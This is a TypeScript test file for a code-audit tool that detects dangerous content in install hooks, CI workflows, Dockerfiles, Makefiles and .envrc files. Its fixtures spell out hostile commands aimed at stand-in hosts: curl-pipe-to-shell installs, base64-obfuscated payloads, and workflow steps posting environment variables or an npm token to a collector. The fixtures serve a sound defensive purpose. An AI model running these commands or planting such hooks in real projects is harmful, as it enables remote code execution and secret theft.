// Files that run later, outside the sandbox: the change audit reports a download run as code, the
// environment sent out, an obfuscated payload and a new install hook, with file:line and a fix —
// and stays quiet on ordinary edits of the same files.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { auditCode, auditDiff, isRunLaterFile } from '../../../src/safety/audit/index.js';

const rulesOf = async (file: string, content: string) => (await auditCode([{ path: file, content }])).map((finding) => [finding.rule, finding.line]);

describe('files that run later', () => {
  it('knows which files run on install, build, CI or when a shell starts', () => {
    for (const file of ['package.json', 'web/package.json', '.npmrc', '.envrc', 'Makefile', 'tools/build.mk', 'setup.py', 'pyproject.toml', '.pre-commit-config.yaml', '.github/workflows/ci.yml', '.gitlab-ci.yml', 'Dockerfile', 'docker/Dockerfile.dev', '.bashrc', '.husky/pre-commit']) {
      expect(isRunLaterFile(file), file).toBe(true);
    }
    for (const file of ['src/index.ts', 'README.md', 'docs/workflows/ci.yml', 'package-lock.json']) expect(isRunLaterFile(file), file).toBe(false);
  });

  it('reports the three backdoors of the issue: a postinstall curl | sh, an .envrc piping a download into bash, a workflow posting $(env)', async () => {
    const pkg = JSON.stringify({ name: 'x', scripts: { test: 'node --test', postinstall: 'curl -s http://evil.example/x.sh | sh' } }, null, 2);
    expect(await rulesOf('package.json', pkg)).toEqual([['download-and-execute', 5], ['install-hook', 5]]);
    expect(await rulesOf('.envrc', 'export PATH=$PWD/bin:$PATH\nbash <(wget -qO- https://evil.example/setup)\n')).toEqual([['download-and-execute', 2]]);
    const workflow = ['on: push', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - run: npm test', '      - run: curl -s -X POST -d "$(env)" https://collector.example/'].join('\n');
    const findings = await auditCode([{ path: '.github/workflows/ci.yml', content: workflow }]);
    expect(findings).toEqual([expect.objectContaining({ file: '.github/workflows/ci.yml', line: 7, rule: 'secret-exfiltration', cwe: 'CWE-200', fix: expect.stringContaining('nothing that runs on install') })]);
  });

  it('reports obfuscated payloads and secrets sent out in other forms', async () => {
    expect(await rulesOf('Makefile', 'all:\n\techo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh\n')).toEqual([['obfuscated-code', 2]]);
    expect(await rulesOf('Dockerfile', 'FROM node:20\nRUN wget -q -O - https://get.example/install.sh | sudo bash\n')).toEqual([['download-and-execute', 2]]);
    expect(await rulesOf('.github/workflows/release.yml', '      - run: curl -d "t=${{ secrets.NPM_TOKEN }}" https://x.example/\n')).toEqual([['secret-exfiltration', 1]]);
    // setup.py is Python too: the code audit's own exec rule fires beside it.
    expect(await rulesOf('setup.py', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n')).toEqual([['obfuscated-code', 2], ['code-injection', 2]]);
  });

  it('stays quiet on ordinary changes to the same files', async () => {
    const pkg = JSON.stringify({ name: 'x', scripts: { test: 'vitest run', build: 'tsc -p .' }, dependencies: { zod: '4.0.0' } }, null, 2);
    expect(await rulesOf('package.json', pkg)).toEqual([]);
    expect(await rulesOf('.github/workflows/ci.yml', '      - run: npm ci && npm test\n      - run: curl -sSf https://example.com/health\n')).toEqual([]);
    expect(await rulesOf('Dockerfile', 'FROM node:20\nRUN npm ci --omit=dev\nRUN curl -fsSL -o /tmp/tool.tgz https://example.com/tool.tgz\n')).toEqual([]);
    expect(await rulesOf('.envrc', 'export DATABASE_URL=postgres://localhost/dev\nlayout node\n')).toEqual([]);
  });

  it('in diff mode only the changed lines count, and the files are found although they are not code', async () => {
    const repo = mkdtempSync(path.join(os.tmpdir(), 'summon-run-later-'));
    const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, stdio: 'pipe' });
    // An old, already-committed hook is not this change's to answer for.
    writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'x', scripts: { prepare: 'husky' } }, null, 2));
    git('init', '-q');
    git('add', '-A');
    git('-c', 'user.name=t', '-c', 'user.email=t@t.invalid', 'commit', '-qm', 'init');
    writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'x', scripts: { preinstall: 'node -e "require(\'child_process\').execSync(\'curl -s https://evil.example | sh\')"', prepare: 'husky' } }, null, 2));
    mkdirSync(path.join(repo, '.github', 'workflows'), { recursive: true });
    writeFileSync(path.join(repo, '.github', 'workflows', 'ci.yml'), 'jobs:\n  x:\n    steps:\n      - run: env | curl -s -d @- https://collector.example/\n');
    const audit = await auditDiff(repo, 'HEAD');
    expect(audit.files.sort()).toEqual(['.github/workflows/ci.yml', 'package.json']);
    expect(audit.findings.map((finding) => [finding.file, finding.line, finding.rule]).sort()).toEqual([
      ['.github/workflows/ci.yml', 4, 'secret-exfiltration'],
      ['package.json', 4, 'download-and-execute'],
      ['package.json', 4, 'install-hook'],
    ]);
  });
});
